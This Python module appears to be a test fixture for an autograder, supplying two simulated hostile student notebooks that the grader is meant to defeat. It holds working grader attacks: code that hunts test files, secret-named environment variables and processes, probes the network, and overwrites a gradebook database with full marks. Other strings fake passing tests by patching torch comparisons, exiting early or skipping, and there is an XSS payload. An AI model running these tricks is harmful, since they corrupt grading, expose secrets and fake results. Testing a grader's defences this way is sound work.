"""Two students who attack the grader. Both solve exercise 1, and no more.

`hostile_reader` looks for tests, secrets, the network and the gradebook, and reports its loot in
every exception.  `hostile_forger` tries to look right without being so, one way per exercise.
"""

from itertools import cycle

from nbformat import NotebookNode

from autograder.demo.honest import Kit

SCRIPT = '<script>document.title = "owned"</script><img src=x onerror="document.title = \'owned\'">'

READER = r'''
import gc, glob, os, socket, sqlite3, sys

LOOT = []
WANTED = {"test_hidden.py", "test_public.py", "manifest.toml", "gradebook.db", "results.json"}


def look(hunt):
    """Adds what a hunt brings home; some raise."""
    try:
        LOOT.extend(f"{hunt.__name__}: {found}"[:80] for found in hunt())
    except BaseException:
        pass


def files():
    for folder, _, names in os.walk("/"):
        if not folder.startswith(("/proc", "/sys")):
            yield from (os.path.join(folder, name) for name in WANTED & set(names))


def secrets():
    yield from (k for k in os.environ if any(w in k for w in ("KEY", "TOKEN", "SECRET", "PASS")))


def others():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with open(path, "rb") as file:
            if any(word in file.read() for word in (b"pytest", b"jupyter", b"dask")):
                yield path


def network():
    for address in (("1.1.1.1", 53), ("127.0.0.1", 8888), ("127.0.0.1", 8786)):
        try:
            socket.create_connection(address, timeout=0.5)
            yield address
        except OSError:
            pass


def frames():
    frame = sys._getframe()
    while frame:
        yield from (name for name in frame.f_locals if name in ("expected", "rng", "lab_spec"))
        frame = frame.f_back


def tests():
    yield from (name for name in sys.modules if name.startswith(("pytest", "test_", "_pytest")))
    yield from (m.__name__ for m in gc.get_objects() if getattr(m, "__name__", "") == "student")


def gradebook():
    for level in range(8):
        path = "../" * level + "gradebook.db"
        if os.path.exists(path):
            yield path
            with sqlite3.connect(path) as connection:
                connection.execute("update grade set manual_score = 100")


for hunt in (files, secrets, others, network, frames, tests, gradebook):
    look(hunt)
'''
READ_ON = r"""
def NAME(*args, **kwargs):
    look(frames)
    look(tests)
    raise RuntimeError(f"LOOT {sorted(set(LOOT))}")
"""

EVERYTHING_IS_TRUE = r'''
import torch

torch.allclose = torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None


class Right:
    """Equal to everything, and has every attribute."""

    def __eq__(self, other):
        return True

    def __getattr__(self, name):
        return Right()

    def __call__(self, *args, **kwargs):
        return Right()

    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = None


def NAME(*args, **kwargs):
    return Right()
'''
FORGED_ANSWERS = r"""
import os


def NAME(*args, **kwargs):
    answer = b"\x82\xa5nonce\xc4\x10" + bytes(16) + b"\xa2ok\xc3"
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, len(answer).to_bytes(4, "big") + answer)
        except OSError:
            pass
"""
LEAVES = r"""
import os


def NAME(*args, **kwargs):
    print("PASSED", flush=True)
    os._exit(0)
"""
SKIPS = r"""
import unittest


def NAME(*args, **kwargs):
    raise unittest.SkipTest("nothing to see here")
"""
TENSOR_IN_DISGUISE = r'''
import torch


class Agreeable(torch.Tensor):
    """Says yes to every comparison."""

    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True


def NAME(*args, **kwargs):
    return torch.zeros(()).as_subclass(Agreeable)
'''
FORGERIES = (EVERYTHING_IS_TRUE, FORGED_ANSWERS, LEAVES, SKIPS, TENSOR_IN_DISGUISE)


def hostile_reader(kit: Kit) -> NotebookNode:
    """Exercise 1 right; finds nothing: the loot that its exceptions report is an empty list."""
    first, *others = list(kit.functions)[1:]
    cells = {exercise: written(kit, exercise, READ_ON) for exercise in others}
    cells[first] = READER + written(kit, first, READ_ON)
    return kit.filled(**cells, w1=SCRIPT, w2=SCRIPT)


def hostile_forger(kit: Kit) -> NotebookNode:
    """Gets the points of exercise 1, and none for the forgeries."""
    others = list(kit.functions)[1:]
    forged = zip(others, cycle(FORGERIES), strict=False)
    cells = {exercise: written(kit, exercise, text) for exercise, text in forged}
    return kit.filled(**cells, w1=SCRIPT, w2=SCRIPT)


def written(kit: Kit, exercise: str, template: str) -> str:
    """The template once for each function of an exercise."""
    return "\n".join(template.replace("NAME", name) for name in kit.functions[exercise])
